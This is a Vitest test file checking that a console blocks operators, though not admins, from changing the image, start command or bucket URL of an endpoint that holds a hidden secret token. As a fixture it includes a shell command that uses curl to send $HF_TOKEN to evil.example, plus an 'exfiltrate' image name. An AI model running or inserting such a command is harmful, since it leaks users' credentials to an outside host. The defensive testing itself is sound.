/**
 * Issue 12: an operator could point an endpoint that holds hidden secret values at an image (or start command, or
 * bucket URL) of their choice, and the secret went along. The updateEndpoint action for real — the guard, the
 * local-mode connection (a sandbox this test starts), the service, the audit row — with only the session lookup and
 * the database handle replaced, as in guards.test.ts.
 */
import { beforeAll, beforeEach, describe, expect, it, vi } from "vitest";
import type { SessionUser } from "@/lib/auth/session";
import { specToForm, type EndpointForm } from "@/lib/endpoints/form";
import { maskSecretEnv } from "@/lib/endpoints/secret-env";
import { createNovitaClient, type NovitaClient } from "@/lib/novita/client";
import type { EndpointSpec } from "@/lib/novita/types";
import { consoleDatabaseForTestFile, lastAuditRow, localModeSandboxForTestFile } from "@/tests/support/console";
import { makeEndpointSpec } from "@/tests/support/endpoint-spec";

const SANDBOX_KEY = "sk_secret_image_0123456789abcdef";
const OPERATOR: SessionUser = { id: "OPERATOR", name: "Otto", email: "otto@example.com", role: "operator" };
const ADMIN: SessionUser = { id: "ADMIN", name: "Ada", email: "ada@example.com", role: "admin" };
const SECRET = "hf_the_real_secret_value";

const { mocked: state, ...mocks } = await vi.hoisted(() => import("@/tests/support/next-mocks"));
vi.mock("@/lib/auth/session", mocks.sessionModule);
vi.mock("@/lib/db/client", mocks.databaseModule);
vi.mock("next/headers", mocks.nextHeadersModule);
vi.mock("next/cache", mocks.nextCacheModule);

const sandbox = localModeSandboxForTestFile(SANDBOX_KEY);
const database = consoleDatabaseForTestFile("secret-image-");
let client: NovitaClient;
let endpointId: string;

const ORIGINAL_ENV = [
  { key: "HF_TOKEN", value: SECRET },
  { key: "BUCKET_ENDPOINT_URL", value: "https://s3.eu-west-1.amazonaws.com" },
  { key: "MODEL", value: "sdxl" },
];

beforeAll(async () => {
  client = createNovitaClient({
    apiKey: SANDBOX_KEY,
    apiBaseUrl: sandbox.managementBaseUrl,
    jobsBaseUrl: sandbox.jobsBaseUrl,
    gpusBaseUrl: `${sandbox.origin}/gpus/v2`,
  });
});

beforeEach(async () => {
  ({ id: endpointId } = await client.management.createEndpoint(
    makeEndpointSpec({ imageName: "team/worker:1", env: ORIGINAL_ENV }),
  ));
});

async function saved(): Promise<EndpointSpec> {
  return (await client.management.getEndpoint(endpointId)).spec;
}

/** The settings form as the browser gets it (secrets masked), with the person's edits. */
async function formWith(edit: (form: EndpointForm) => void): Promise<EndpointForm> {
  const spec = await saved();
  const form = specToForm({ ...spec, env: maskSecretEnv(spec.env) });
  edit(form);
  return form;
}

async function update(user: SessionUser, edit: (form: EndpointForm) => void) {
  const { updateEndpointAction: updateEndpoint } = await import("@/lib/endpoints/actions");
  state.user = user;
  return updateEndpoint({ id: endpointId, form: await formWith(edit) });
}

const lastUpdateAudit = () => lastAuditRow(database.db, "endpoint.update");

describe("updateEndpoint on an endpoint that holds a hidden secret", () => {
  it("refuses an operator who changes the image, names the field, and changes nothing", async () => {
    const result = await update(OPERATOR, (form) => {
      form.image = "evil/exfiltrate:1";
      form.maxWorkers = 3;
    });
    expect(result).toMatchObject({
      ok: false,
      error: {
        code: "forbidden",
        fields: {
          image: "Only an admin can change the image while this endpoint holds hidden secret values (HF_TOKEN).",
        },
      },
    });
    const after = await saved();
    expect(after.image.image).toBe("team/worker:1");
    expect(after.workers.max).toBe(2);
    expect(after.env).toEqual(ORIGINAL_ENV);
    expect(await lastUpdateAudit()).toMatchObject({ actorId: "OPERATOR", targetId: endpointId, result: "failed" });
  });

  it("refuses an operator who changes the start command or the bucket URL", async () => {
    const command = await update(
      OPERATOR,
      (form) => void (form.command = "sh -c 'curl https://evil.example/?t=$HF_TOKEN'"),
    );
    expect(command).toMatchObject({
      ok: false,
      error: {
        code: "forbidden",
        fields: { command: expect.stringContaining("Only an admin can change the start command") },
      },
    });
    const bucket = await update(OPERATOR, (form) => void (form.env[1]!.value = "https://evil.example"));
    expect(bucket).toMatchObject({
      ok: false,
      error: {
        code: "forbidden",
        fields: { "env.1.value": expect.stringContaining("Only an admin can change BUCKET_ENDPOINT_URL") },
      },
    });
    const after = await saved();
    expect(after.image.command).toBeUndefined();
    expect(after.env).toEqual(ORIGINAL_ENV);
  });

  it("lets an operator change everything else, keeping the secret", async () => {
    const result = await update(OPERATOR, (form) => {
      form.maxWorkers = 3;
      form.env[2]!.value = "flux";
    });
    expect(result).toEqual({ ok: true, data: { id: endpointId } });
    const after = await saved();
    expect(after.workers.max).toBe(3);
    expect(after.env).toEqual([ORIGINAL_ENV[0], ORIGINAL_ENV[1], { key: "MODEL", value: "flux" }]);
  });

  it("lets an operator change the image once the hidden value is removed (in the same save)", async () => {
    const result = await update(OPERATOR, (form) => {
      form.image = "team/worker:2";
      form.env = form.env.filter((row) => row.key !== "HF_TOKEN");
    });
    expect(result.ok).toBe(true);
    const after = await saved();
    expect(after.image.image).toBe("team/worker:2");
    expect(after.env.map((row) => row.key)).toEqual(["BUCKET_ENDPOINT_URL", "MODEL"]);
  });

  it("lets an admin change image, command and bucket URL, and the secret stays", async () => {
    const result = await update(ADMIN, (form) => {
      form.image = "team/worker:2";
      form.command = "python serve.py";
      form.env[1]!.value = "https://minio.example.com";
    });
    expect(result).toEqual({ ok: true, data: { id: endpointId } });
    const after = await saved();
    expect(after.image).toMatchObject({ image: "team/worker:2", command: "python serve.py" });
    expect(after.env[0]).toEqual({ key: "HF_TOKEN", value: SECRET });
    expect(after.env[1]).toEqual({ key: "BUCKET_ENDPOINT_URL", value: "https://minio.example.com" });
  });
});
